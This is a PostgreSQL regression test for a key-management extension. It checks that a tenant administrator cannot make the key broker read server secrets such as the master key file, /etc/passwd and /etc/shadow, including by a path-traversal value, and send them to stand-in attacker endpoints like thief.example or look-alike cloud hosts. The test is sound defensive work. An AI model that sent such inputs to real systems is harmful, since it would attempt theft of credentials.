\set VERBOSITY terse
\set SHOW_CONTEXT never
-- This file sets up what it uses and cleans up after itself, so it runs alone.
CREATE EXTENSION IF NOT EXISTS byok_pg;
-- Key-manager calls and failed operations reach byok.audit_log through a queue
-- the audit writer drains within a second or so; this helper waits for it (up to 30 s).
CREATE OR REPLACE FUNCTION wait_for_audit_queue() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    FOR i IN 1..300 LOOP
        PERFORM pg_stat_clear_snapshot();
        IF (SELECT audit_queued FROM byok.broker_status()) = 0
           AND NOT EXISTS (SELECT 1 FROM pg_stat_activity WHERE backend_type = 'byok catalog writer') THEN
            RETURN true;
        END IF;
        PERFORM pg_sleep(0.1);
    END LOOP;
    RETURN false;
END
$$;

-- Threat: server files and endpoints chosen through configure_tenant. The key
-- broker reads credential files as the server's OS user and sends what they
-- hold (tokens, secret ids) to the tenant's endpoint: a byok_admin naming the
-- local master key file as a Vault token, and its own listener as the Vault
-- address, would receive the key. Credential files come only from directories
-- a superuser lists (byok.credential_directories, empty here: none at all);
-- endpoints are https, and private ones must be listed (byok.allowed_endpoints);
-- plain http needs byok.allow_insecure_transport. A path outside the
-- directories is refused without being looked at, so the answer says nothing
-- about whether it exists.
CREATE ROLE file_thief LOGIN IN ROLE byok_admin;
-- The superuser allows one private Vault server (byok.allowed_endpoints is set
-- in postgresql.conf; here with ALTER SYSTEM, undone at the end), so the file
-- checks below are reached at all. The key broker picks it up on reload.
ALTER SYSTEM SET byok.allowed_endpoints = 'vault.corp.example:8200';
SELECT pg_reload_conf();
SELECT pg_sleep(1);
SELECT current_setting('data_directory') AS pgdata \gset
-- (Errors are shown with the data directory replaced, so the output is stable.)
CREATE FUNCTION public.attempt(document jsonb) RETURNS text LANGUAGE plpgsql
    SET regress.pgdata = :'pgdata' AS $b$
BEGIN
    PERFORM byok.configure_tenant(document);
    RETURN 'configured';
EXCEPTION WHEN OTHERS THEN
    RETURN SQLSTATE || ': ' || replace(SQLERRM, current_setting('regress.pgdata'), '$PGDATA');
END $b$;
GRANT EXECUTE ON FUNCTION public.attempt(jsonb) TO file_thief;
\c - file_thief
-- The server's own key file, as a Vault token, sent to a listener of the thief's.
SELECT public.attempt(format('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "http://127.0.0.1:18999", "key_name": "k",
            "auth": {"method": "token", "token_file": "%s/byok_local_master.key"}}}}', :'pgdata')::jsonb);
-- Even over https to an allowed endpoint, the file is not read.
SELECT public.attempt(format('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://vault.corp.example:8200", "key_name": "k",
            "auth": {"method": "token", "token_file": "%s/byok_local_master.key"}}}}', :'pgdata')::jsonb);
-- An existing and a missing file read the same: nothing is revealed.
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "gcp_kms",
  "gcp_kms": {"key_name": "projects/p/locations/l/keyRings/r/cryptoKeys/k",
              "auth": {"method": "token_file", "token_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "gcp_kms",
  "gcp_kms": {"key_name": "projects/p/locations/l/keyRings/r/cryptoKeys/k",
              "auth": {"method": "token_file", "token_file": "/etc/no-such-file"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "gcp_kms",
  "gcp_kms": {"key_name": "projects/p/locations/l/keyRings/r/cryptoKeys/k",
              "auth": {"method": "service_account_key", "key_file": "/etc/shadow"}}}}');
-- Every file-valued option of every provider, CA bundles included.
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://vault.corp.example:8200", "key_name": "k",
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://vault.corp.example:8200", "key_name": "k",
            "auth": {"method": "kubernetes", "role": "r", "jwt_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://vault.corp.example:8200", "key_name": "k", "ca_cert_file": "/etc/passwd",
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/tmp/x/../../etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "azure_kv",
  "azure_kv": {"vault_url": "https://thief.vault.azure.net", "key_name": "k",
               "auth": {"method": "service_principal", "tenant_id": "t", "client_id": "c", "client_secret_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "azure_kv",
  "azure_kv": {"vault_url": "https://thief.vault.azure.net", "key_name": "k",
               "auth": {"method": "service_principal", "tenant_id": "t", "client_id": "c", "client_certificate_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "azure_kv",
  "azure_kv": {"vault_url": "https://thief.vault.azure.net", "key_name": "k",
               "auth": {"method": "token_file", "token_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "azure_kv",
  "azure_kv": {"vault_url": "https://thief.vault.azure.net", "key_name": "k", "ca_cert_file": "/etc/passwd",
               "auth": {"method": "managed_identity"}}}}');
-- Endpoints: a listener of the thief's, plain http, credentials in the URL, a
-- look-alike domain, a Region that is not one.
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://thief.example:8200", "key_name": "k",
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "aws_kms",
  "aws_kms": {"key_arn": "arn:aws:kms:us-east-1:1:key/k", "endpoint_url": "https://thief.example"}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "aws_kms",
  "aws_kms": {"key_arn": "arn:aws:kms:us-east-1:1:key/k", "endpoint_url": "http://kms.us-east-1.amazonaws.com"}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "aws_kms",
  "aws_kms": {"key_arn": "arn:aws:kms:us-east-1:1:key/k", "replica_key_arns": ["arn:aws:kms:us-west-2:1:key/k"],
              "replica_endpoint_urls": {"us-west-2": "https://amazonaws.com.thief.example"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "aws_kms",
  "aws_kms": {"key_arn": "k", "region": "thief.example/"}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "gcp_kms",
  "gcp_kms": {"key_name": "projects/p/locations/l/keyRings/r/cryptoKeys/k", "endpoint": "https://user:pw@cloudkms.googleapis.com",
              "auth": {"method": "metadata_server"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "azure_kv",
  "azure_kv": {"vault_url": "https://thief.vault.azure.net", "key_name": "k", "authority_host": "https://login.thief.example",
               "auth": {"method": "managed_identity"}}}}');
-- Cloud hosts anyone can put their own code or content behind (an API
-- Gateway, a storage bucket) are not the key managers' hosts: only each
-- service's own hosts are allowed without being listed, and no cloud host for
-- Vault at all.
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://abc123.execute-api.us-east-1.amazonaws.com", "key_name": "k",
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://storage.googleapis.com/thief-bucket", "key_name": "k",
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://kms.us-east-1.amazonaws.com", "key_name": "k",
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/etc/passwd"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "aws_kms",
  "aws_kms": {"key_arn": "arn:aws:kms:us-east-1:1:key/k", "endpoint_url": "https://abc123.execute-api.us-east-1.amazonaws.com"}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "azure_kv",
  "azure_kv": {"vault_url": "https://thief.vault.azure.net", "key_name": "k", "authority_host": "https://abc123.execute-api.us-east-1.amazonaws.com",
               "auth": {"method": "managed_identity"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "gcp_kms",
  "gcp_kms": {"key_name": "projects/p/locations/l/keyRings/r/cryptoKeys/k", "endpoint": "https://storage.googleapis.com/thief-bucket",
              "auth": {"method": "metadata_server"}}}}');
SELECT public.attempt('{"customer": "x", "tenant_id": "thief1", "encryption": {"provider": "vault",
  "vault": {"address": "https://vault.corp.example:8200", "key_name": "k", "tls_skip_verify": true, "allow_insecure_tls": true,
            "auth": {"method": "approle", "role_id": "r", "secret_id_file": "/etc/passwd"}}}}');
\c - postgres
-- The policy is the superuser's: a byok_admin cannot change it.
\c - file_thief
SET byok.allowed_endpoints = '*.thief.example';
SET byok.credential_directories = '/';
SET byok.allow_insecure_transport = on;
-- Nothing was configured, and every refusal is in the audit trail.
\c - postgres
SELECT count(*) AS thief_tenants FROM byok.tenant_config WHERE tenant_id = 'thief1';
SELECT wait_for_audit_queue();
SELECT count(*) > 0 AS refusals_recorded FROM byok.audit_log
 WHERE event = 'configure_tenant' AND outcome = 'failed' AND role_name = 'file_thief';
DROP FUNCTION public.attempt(jsonb);
ALTER SYSTEM RESET byok.allowed_endpoints;
SELECT pg_reload_conf();
DROP ROLE file_thief;
DROP FUNCTION wait_for_audit_queue();
